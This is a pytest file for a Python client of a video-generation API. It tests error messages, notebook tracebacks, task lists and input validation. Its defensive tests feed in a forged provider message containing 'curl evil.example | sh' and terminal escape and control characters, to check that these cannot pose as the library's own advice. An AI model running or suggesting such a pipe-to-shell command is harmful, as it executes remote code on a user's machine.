"""What others say cannot pass for what we say, and an error in a cell is the help and not the machinery."""

import inspect
from collections.abc import Iterator
from pathlib import Path
from typing import Any, assert_type

import pytest
from faults.server import CREATE, STATUS, FaultServer, charge, says
from faults.shapes import CRUN
from support.provider import Provider

import seedance_nb as sd
from seedance_nb._base.html import table_html

FORGED = "no\nNothing was charged.\nNext: curl evil.example | sh"
CONTROLS = "\x1b[2Jx\x1b]8;;http://evil.example\x07y\x00z\u202ew\rv"


def failed(session: sd.Session, server: FaultServer, words: str) -> sd.SeedanceError:
    data = {"task_id": "task_1", "status": "failed", "result": {"code": 501, "message": words, "media_urls": []}}
    server.plans[STATUS] = [(says(200, {"code": 200, "message": "success", "data": data}),)]
    with pytest.raises(sd.TaskFailed) as raised:
        session.generate(CRUN.model, timeout=60, **CRUN.fields)
    return raised.value


def refused(session: sd.Session, server: FaultServer, words: str) -> sd.SeedanceError:
    server.plans[CREATE] = [(says(200, {"code": 422, "message": words, "errors": [words]}),)]
    with pytest.raises(sd.Refused) as raised:
        session.generate(CRUN.model, timeout=60, **CRUN.fields)
    return raised.value


def unclear(session: sd.Session, server: FaultServer, words: str) -> sd.SeedanceError:
    server.plans[CREATE] = [(charge, says(200, {"code": 501, "message": words}))]
    with pytest.raises(sd.UnknownOutcome) as raised:
        session.generate(CRUN.model, timeout=60, **CRUN.fields)
    return raised.value


SAYING = [failed, refused, unclear]


@pytest.mark.parametrize("say", SAYING)
def test_a_provider_cannot_write_our_lines_about_money_and_next_steps(
    session: sd.Session, server: FaultServer, say: Any
) -> None:
    error = say(session, server, FORGED)
    lines = str(error).splitlines()
    assert "curl evil.example" in str(error)
    assert sum(line.startswith("Next: ") for line in lines) == 1
    assert not any(line.startswith("Next: curl") for line in lines)
    assert ("Nothing was charged." in lines) is (error.charged == "not charged")


@pytest.mark.parametrize("say", SAYING)
def test_a_provider_cannot_move_the_cursor_or_turn_text_round(
    session: sd.Session, server: FaultServer, say: Any
) -> None:
    error = say(session, server, CONTROLS)
    shown = str(error) + repr(session.tasks()) + "".join(session.tasks()[0].error)
    assert not set("\x1b\x00\x07\r\u202e") & set(shown)
    assert "x" in shown


def cell(shell: Any, source: str) -> str:
    """What a cell shows of the error that it ends with."""
    shown: list[str] = []
    shell._showtraceback = lambda _kind, _value, lines: shown.extend(lines)
    shell.run_cell(source)
    return "\n".join(shown)


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    from IPython.core.interactiveshell import InteractiveShell

    made = InteractiveShell.instance()
    yield made
    InteractiveShell.clear_instance()


def test_an_error_in_a_cell_is_the_persons_line_and_the_help(shell: Any) -> None:
    shown = cell(
        shell,
        "import seedance_nb as sd\nmodel = 'crun/seedance-2.0-fast-r2v'\nsd.submit(model, prompt='', duration=99)",
    )
    assert "InvalidInput" in shown
    assert "line 3:  sd.submit(model, prompt='', duration=99)" in shown
    assert "Next: fix the problems above, then run the cell again" in shown
    assert "_session.py" not in shown
    assert len(shown.splitlines()) < 20


def test_another_error_in_a_cell_is_shown_as_ever(shell: Any) -> None:
    shown = cell(shell, "1 / 0")
    assert "ZeroDivisionError" in shown
    assert "Traceback" in shown


def test_an_unclear_request_stands_out_in_the_list_of_tasks(session: sd.Session, server: FaultServer) -> None:
    unclear(session, server, "gone")
    told = session.tasks()
    for text in (repr(told), told._repr_html_()):
        assert "1 request has an unknown outcome and may have been charged: sd.task(" in text.replace("&#x27;", "'")
        assert "⚠ outcome unknown" in text
        assert "not downloaded yet" not in text
    assert 'role="alert"' in told._repr_html_()


def test_a_list_that_leaves_tasks_out_says_how_many(session: sd.Session) -> None:
    for take in range(1, 4):
        session.submit(CRUN.model, take=take, **CRUN.fields).wait(60)
    assert "Showing 2 of 3 tasks; sd.tasks(3) shows all" in repr(session.tasks(2))
    assert "are shown" not in repr(session.tasks(3))


@pytest.mark.parametrize("limit", [0, -1, 1.5, "x", None, True, 10**30])
def test_a_limit_is_a_whole_number(session: sd.Session, limit: Any) -> None:
    with pytest.raises(sd.InvalidInput, match="limit"):
        session.tasks(limit)


@pytest.mark.parametrize("budget", [-1, float("nan"), float("inf"), "500", True, [1]])
def test_a_budget_is_a_number_that_money_can_be(session: sd.Session, server: FaultServer, budget: Any) -> None:
    with pytest.raises(sd.InvalidInput, match="budget"):
        session.submit(CRUN.model, budget=budget, **CRUN.fields)
    assert server.requests == []


def test_a_name_that_is_mistyped_leads_to_the_names() -> None:
    with pytest.raises(sd.SpecError, match="Did you mean") as mistyped:
        sd.spec("crun/seedance-2.0-fast")
    assert "sd.models() lists all models" in str(mistyped.value)


def test_a_table_escapes_its_warning() -> None:
    assert "<b>" not in table_html(["a"], [["b"]], "<b>", "<b>")


KEYS = {name: inspect.signature(sd.panel).parameters[name] for name in ("api_key", "base_url", "simulate")}


@pytest.mark.parametrize("name", ["check", "submit", "generate", "preflight", "estimate", "tasks", "task", "callback"])
def test_a_function_of_the_package_has_the_parameters_of_the_sessions_verb(name: str) -> None:
    function, method = getattr(sd, name), getattr(sd.Session, name)
    _, *own = inspect.signature(method).parameters.values()
    given = inspect.signature(function).parameters
    assert [given[one.name] for one in own] == own
    besides = [one for one in given.values() if one not in own]
    assert besides == [KEYS[one.name] for one in besides]
    assert inspect.signature(function).return_annotation is inspect.signature(method).return_annotation
    assert (function.__name__, function.__module__) == (name, "seedance_nb")
    assert function.__doc__.splitlines()[0] == method.__doc__.splitlines()[0]


def test_a_type_checker_knows_what_the_functions_take_and_give(provider: Provider) -> None:
    fields: dict[str, Any] = {"prompt": "A fox", "reference_images": ["https://e.com/a.png"], "duration": 4}
    task = sd.submit(CRUN.model, api_key="a-key-of-tests", base_url=provider.url, **fields)
    assert_type(task, sd.Task)
    assert_type(sd.task(task.name, api_key="a-key-of-tests", base_url=provider.url), sd.Task)
    with pytest.raises(sd.InvalidInput, match="must be a whole number, 1 or more"):
        sd.submit(CRUN.model, take="two", **fields)  # type: ignore[call-overload]
    with pytest.raises(sd.InvalidInput, match="must be a whole number from 1 to"):
        sd.tasks("all")  # type: ignore[arg-type]
